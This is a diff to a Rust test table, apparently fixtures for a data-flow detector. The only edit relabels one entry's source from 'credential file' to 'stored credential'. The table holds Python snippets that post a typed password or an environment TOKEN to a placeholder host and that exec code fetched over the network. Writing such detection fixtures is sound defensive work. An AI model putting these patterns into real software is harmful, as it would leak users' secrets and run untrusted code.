@@ -402,7 +402,7 @@ const FLOWS: &[(&str, &str, &str)] = &[
         "hub",
         "deserialisation",
     ),
-    ("import getpass, requests\nrequests.post('u', data=getpass.getpass())", "credential file", "network"),
+    ("import getpass, requests\nrequests.post('u', data=getpass.getpass())", "stored credential", "network"),
     ("import requests\ndef get(u):\n    return requests.get(u).text\nexec(get('u'))", "network", "execution"),
     (
         "import os, requests\nclass A:\n    def a(self):\n        self.t = os.environ['TOKEN']\n    def b(self):\n        requests.post('u', data=self.t)",
